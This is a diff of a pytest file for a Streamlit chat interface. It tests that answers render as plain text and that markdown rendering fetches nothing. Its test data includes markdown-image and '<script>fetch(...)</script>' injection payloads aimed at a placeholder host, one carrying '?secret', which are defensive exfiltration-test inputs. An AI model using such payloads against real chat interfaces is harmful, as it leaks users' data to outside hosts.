@@ -1,13 +1,17 @@
 """The pages over a real gateway and control, with something in them."""
 
 import json
+import re
 
 import pytest
+from streamlit.commands.page_config import _get_favicon_string
 
 from tests.ui.depot import EARLY, ECHO, ENDLESS, MODEL, Depot
 from tests.ui.page import PAGES, opened, words
 from tests.unit.control.checkpoint_files import write_checkpoint
-from ui.harmless import harmless
+from ui.__main__ import APP
+from ui.harmless import as_markdown, cut, harmless
+from ui.icon import ICON
 
 
 @pytest.fixture(autouse=True)
@@ -34,11 +38,26 @@ def test_a_chat_is_streamed_with_its_times() -> None:
     page = opened("playground")
     page.chat_input[0].set_value("What is 17+25?").run()
     seen = words(page)
-    assert "42" in [element.value for element in page.markdown]
+    assert "42" in [element.value for element in page.text]
     assert "2 tokens · " in seen
     assert f"{MODEL} · " in seen
     page.chat_input[0].set_value("What is 1+1?").run()
-    assert "42" in [element.value for element in page.markdown], "what was said stays"
+    assert "42" in [element.value for element in page.text], "what was said stays"
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        "![x](http://192.0.2.1/?secret)",
+        "between $5 and $6, :red[so] :smile: -> **and** `x`",
+        "<img src=http://192.0.2.1/><script>fetch('http://192.0.2.1/')</script>",
+    ],
+)
+def test_an_answer_is_shown_as_it_is(said: str) -> None:
+    page = opened("playground")
+    page.chat_input[0].set_value(f"{ECHO}{said}").run()
+    assert [element.value for element in page.text] == [f"{ECHO}{said}", said]
+    assert not any("192.0.2.1" in element.value or "red[so]" in element.value for element in page.markdown)
 
 
 @pytest.mark.parametrize(
@@ -48,22 +67,41 @@ def test_a_chat_is_streamed_with_its_times() -> None:
         "a `` ` ![x](http://192.0.2.1/)",
         "<div>\n```\n\n![x][y]\n\n```\n\n[y]: http://192.0.2.1/",
         "<img src=http://192.0.2.1/><script>fetch('http://192.0.2.1/')</script>![x](//192.0.2.1/)",
+        "![x](http://192.0.2.1/):red[so]:smile::material/home:",
     ],
 )
-def test_a_hostile_answer_fetches_nothing(said: str) -> None:
+def test_a_hostile_answer_as_markdown_fetches_nothing(said: str) -> None:
     """An image is fetched when it is drawn; nothing of an answer may be sent away by that."""
     page = opened("playground")
+    page.toggle(key="playground_markdown").set_value(True).run()
     page.chat_input[0].set_value(f"{ECHO}{said}").run()
     drawn = [element for element in page.markdown if "192.0.2.1" in element.value]
     assert len(drawn) == 2  # the question and the answer
     assert all("![" not in element.value and not element.proto.allow_html for element in drawn)
+    assert not any(re.search(r"(?<!\\):(red\[|smile:|material/)", element.value) for element in drawn)
+
+
+def test_what_was_said_can_be_drawn_otherwise_afterwards() -> None:
+    page = opened("playground")
+    page.chat_input[0].set_value(f"{ECHO}**loud**").run()
+    assert "**loud**" in [element.value for element in page.text]
+    page.toggle(key="playground_markdown").set_value(True).run()
+    assert "**loud**" in [element.value for element in page.markdown]
+    assert not page.text
 
 
 def test_code_with_brackets_is_left_alone_and_megabytes_are_cut() -> None:
-    page = opened("playground")
-    page.chat_input[0].set_value(f"{ECHO}let a = vec![1, 2];").run()
-    assert "let a = vec![1, 2];" in [element.value for element in page.markdown]
-    assert harmless("x" * 3_000_000).endswith("\n\n… 2900000 more characters are not shown.")
+    code = "let a = vec![1, 2]; let b: u8 = c[1:2];"
+    assert as_markdown(code) == code
+    assert harmless("costs $5 or $6") == "costs \\$5 or \\$6"
+    assert cut("x" * 3_000_000).endswith("\n\n… 2900000 more characters are not shown.")
+    assert len(as_markdown("x" * 3_000_000)) < 101_000
+
+
+def test_the_icon_is_shipped() -> None:
+    """One of Streamlit's own names for icons a browser asks another host for."""
+    assert _get_favicon_string(ICON).startswith("data:image/svg+xml;base64,")
+    assert "page_icon=ICON" in APP.read_text()
 
 
 def test_two_models_answer_side_by_side() -> None:
@@ -71,7 +109,7 @@ def test_two_models_answer_side_by_side() -> None:
     page.toggle[0].set_value(True).run()
     page.selectbox[1].select(EARLY).run()
     page.chat_input[0].set_value("What is 10+11?").run()
-    said = [element.value for element in page.markdown]
+    said = [element.value for element in page.text]
     assert "21" in said
     assert "22" in said
 
@@ -81,7 +119,7 @@ def test_an_answer_is_set_apart_from_its_solution() -> None:
     page.text_area[0].set_value("What is 17+25?")
     page.button[0].click().run()
     assert not page.error, words(page)
-    assert "42" in [element.value for element in (*page.success, *page.text)]
+    assert "42" in [element.value for element in (*page.code, *page.text)]
 
 
 def test_activating_shows_method_pause_and_history(yard: Depot) -> None:
